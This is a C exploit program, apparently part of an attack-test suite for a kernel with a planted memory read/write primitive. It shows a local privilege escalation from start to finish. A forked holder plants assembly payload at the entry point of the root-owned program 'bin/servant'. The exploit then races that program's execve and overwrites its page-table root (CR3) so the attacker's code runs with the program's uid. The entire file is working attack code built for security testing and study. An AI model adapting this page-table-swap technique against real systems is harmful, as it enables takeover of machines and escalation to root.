/*
 * A program of root's is started, and its new address space gets another root before it is entered:
 * that of a process of the attack's, which has code of its own where the program begins. The
 * process that starts it has a second thread, for whose end execve waits.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define PROGRAM "bin/servant"
enum { ROOT_BYTES = 4, PAGES_MAX = 1024, TRIES_MAX = 20, ASLEEP_S = 1000, UID_UNKNOWN = -1 };

/* In memory that all processes of the attack have. */
struct shared {
	uint64_t root;       /* of the process that has the code; 0: not yet */
	int uid;             /* what the code was told */
	int is_over;         /* it may end */
	uint64_t process_as; /* where the starting process has its address space; 0: not yet */
};

/* Tells its uid, waits until it may end, and ends. RDI: struct shared, which is filled in. */
extern const char payload[], payload_shared[], payload_end[];
__asm__(".section .rodata\n.balign 8\n.globl payload, payload_shared, payload_end\n"
	"payload:\n mov $102, %eax\n syscall\n"
	" .byte 0x48, 0xbb\npayload_shared: .quad -1\n" /* mov $..., %rbx */
	" mov %eax, 8(%rbx)\n"
	"1: pause\n cmpl $0, 12(%rbx)\n je 1b\n"
	" mov $231, %eax\n xor %edi, %edi\n syscall\n .balign 8\npayload_end:\n.text\n");

static volatile struct shared *shared;

static void *sleep_long(void *unused)
{
	sleep(ASLEEP_S);
	return unused;
}

/* It becomes the program, as soon as its other thread has ended. */
static _Noreturn void start_program(void)
{
	struct bw_leak leak;
	pthread_t thread;

	attack_leak(&leak);
	pthread_create(&thread, NULL, sleep_long, NULL);
	sched_yield();
	shared->process_as = leak.process_as;
	sched_yield();
	execl("/" PROGRAM, PROGRAM, (char *)NULL);
	_exit(1);
}

/* Puts the code where the program begins, and stays. In a section of its own, behind all code that
 * there is: what is put there may lie over any of that. */
static __attribute__((noinline, section("behind"))) void hold(char *page, char *with_code)
{
	mprotect(with_code, BW_PAGE_SIZE, PROT_READ | PROT_EXEC);
	mremap(with_code, BW_PAGE_SIZE, BW_PAGE_SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, page);
	for (;;) {
		sleep(ASLEEP_S);
	}
}

static _Noreturn void hold_root(uint64_t entry)
{
	char *page = (char *)(entry & -(uint64_t)BW_PAGE_SIZE), *copy;
	uint64_t at = (uintptr_t)shared;
	struct bw_leak leak;

	copy = mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(copy, page, BW_PAGE_SIZE);
	memcpy(copy + entry % BW_PAGE_SIZE, payload, (size_t)(payload_end - payload));
	memcpy(copy + entry % BW_PAGE_SIZE + (payload_shared - payload), &at, sizeof(at));
	attack_leak(&leak);
	shared->root = leak.root;
	hold(page, copy);
	_exit(1);
}

/* Where the program begins. */
static uint64_t program_entry(const struct bw_leak *leak)
{
	uint64_t file = attack_archive_find(leak, PROGRAM);
	Elf64_Ehdr header;

	if (file == 0) {
		attack_skip("there is no " PROGRAM);
	}
	attack_read(leak->archive + file, &header, sizeof(header));
	if (header.e_entry % BW_PAGE_SIZE + (size_t)(payload_end - payload) > BW_PAGE_SIZE) {
		attack_skip(PROGRAM " begins at the end of a page");
	}
	return header.e_entry;
}

/* The address space of the program that is being started, its root, and a page of its stack. */
struct target {
	uint64_t as, root;
	struct attack_page page;
};

/* Waits until it is complete, and not in force yet. False: that was missed. */
static bool await_target(pid_t starter, const char *stack, struct target *target)
{
	uint64_t starters;
	struct bw_leak leak;

	while (shared->process_as == 0) {
		sched_yield();
	}
	starters = (uint64_t)bw_vuln_read(shared->process_as);
	for (;;) {
		sched_yield();
		attack_leak(&leak);
		target->as = leak.as_newest;
		target->root = (uint32_t)bw_vuln_read(target->as + leak.as_root -
						      (uint64_t)bw_vuln_read(leak.process_as));
		if ((uint64_t)bw_vuln_read(shared->process_as) != starters) {
			waitpid(starter, NULL, 0);
			return false;
		}
		/* the last thing that is written there is its stack */
		if (target->as != starters &&
		    attack_entry(&leak, target->root, (uintptr_t)stack, &target->page.place) != 0) {
			return true;
		}
	}
}

static bool swap(const struct bw_leak *leak, const char *stack)
{
	static struct attack_page pages[PAGES_MAX];
	uint64_t own = (uint64_t)bw_vuln_read(leak->process_as);
	struct target target;
	size_t nr_pages;
	pid_t starter;

	shared->process_as = 0;
	starter = fork();
	if (starter == 0) {
		start_program();
	}
	if (starter < 0 || !await_target(starter, stack, &target)) {
		return false;
	}
	/* of its page tables one for now: there is no time for more */
	attack_note_root(leak, &target.page, 1, shared->root);
	attack_check("vuln_write",
		     bw_vuln_write(target.as + leak->as_cr3 - own, shared->root * BW_PAGE_SIZE));
	bw_vuln_store(target.as + leak->as_root - own, shared->root, ROOT_BYTES);
	while (shared->uid == UID_UNKNOWN && waitpid(starter, NULL, WNOHANG) == 0) {
		sched_yield();
	}
	attack_have_witnessed();
	/* it gives back what it was given, while it runs on the other root to the end */
	nr_pages = attack_list_pages(leak, target.root, pages, PAGES_MAX);
	attack_note_root(leak, pages, nr_pages, shared->root);
	bw_vuln_store(target.as + leak->as_root - own, target.root, ROOT_BYTES);
	shared->is_over = 1;
	waitpid(starter, NULL, 0);
	return true;
}

int main(int argc, char *argv[])
{
	struct bw_leak leak;
	uint64_t entry;
	pid_t holder;

	(void)argc;
	attack_begin(&leak, 1, 0);
	entry = program_entry(&leak);
	shared =
		mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared->uid = UID_UNKNOWN;
	holder = fork();
	if (holder == 0) {
		hold_root(entry);
	}
	while (shared->root == 0) {
		sched_yield();
	}
	attack_say(PROGRAM " begins at 0x%lx, where the root in frame 0x%lx has other code", entry,
		   shared->root);
	for (int tries = 0; tries < TRIES_MAX && !swap(&leak, argv[0]); tries++) {}
	attack_say("code of the attacker's ran there as uid %d", shared->uid);
	kill(holder, SIGKILL);
	waitpid(holder, NULL, 0);
	return attack_finish();
}
